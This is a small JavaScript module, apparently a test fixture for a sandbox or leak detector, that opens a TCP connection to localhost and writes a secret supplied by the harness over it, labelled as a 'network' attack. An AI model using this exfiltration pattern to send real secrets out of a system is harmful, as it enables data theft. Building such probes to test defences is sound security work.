// Leaks the secret over a plain TCP connection (net.connect).
import net from 'node:net';
export const meta = { kind: 'network', evidence: 'tcp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(ctx.tcpPort, '127.0.0.1', () => socket.end(ctx.secret));
    socket.on('error', reject);
    socket.on('close', () => resolve('sent'));
  });
}
